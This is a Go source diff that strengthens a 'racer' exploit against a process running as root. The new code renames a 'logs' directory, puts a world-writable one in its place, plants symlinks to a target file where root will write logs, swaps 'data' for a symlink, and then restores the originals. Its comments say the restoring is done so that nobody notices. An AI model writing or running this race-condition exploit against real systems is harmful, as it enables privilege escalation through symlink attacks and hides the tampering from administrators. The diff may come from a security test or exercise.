@@ -92,15 +92,18 @@ func (r *racer) open() bool {
 		unix.Fstatat(r.dir, "logs", &logs, 0) == nil && (logs.Mode&0o002 != 0 || logs.Uid != 0)
 }
 
-// attack puts links where root may go next. A renamed directory is put back, so that nobody misses it: a mount on it, as the
-// task has, is gone then.
+// attack puts links where root may go next. What it has moved away it puts back, so that nobody misses it.
 func (r *racer) attack() {
 	if unix.Renameat(r.dir, "logs", r.dir, "was") == nil {
 		r.Renamed++
-		r.link("was")
+		_ = unix.Mkdirat(r.dir, "logs", 0o777)
+		r.link()
+		for began := time.Now(); r.open() && time.Since(began) < time.Millisecond; {
+		}
+		r.unlink()
+		_ = unix.Unlinkat(r.dir, "logs", unix.AT_REMOVEDIR)
 		_ = unix.Renameat(r.dir, "was", r.dir, "logs")
 	}
-	r.link("logs")
 	if unix.Renameat(r.dir, "data", r.dir, "kept") == nil {
 		if unix.Symlinkat(prize, r.dir, "data") == nil {
 			r.Swapped++
@@ -110,14 +113,20 @@ func (r *racer) attack() {
 	}
 }
 
-// link puts links in the place of the log files that are there or come next.
-func (r *racer) link(logs string) {
-	for i := range 8 {
-		name := fmt.Sprintf("%s/racer.stdout.%d", logs, i)
-		_ = unix.Unlinkat(r.dir, name, 0)
-		if unix.Symlinkat(prize, r.dir, name) == nil {
+// nextFiles is how many of the log files that are there or come next the racer replaces.
+const nextFiles = 16
+
+func (r *racer) link() {
+	for i := range nextFiles {
+		if unix.Symlinkat(prize, r.dir, fmt.Sprintf("logs/racer.stdout.%d", i)) == nil {
 			r.Linked++
 		}
+	}
+}
+
+func (r *racer) unlink() {
+	for i := range nextFiles {
+		_ = unix.Unlinkat(r.dir, fmt.Sprintf("logs/racer.stdout.%d", i), 0)
 	}
 }
 
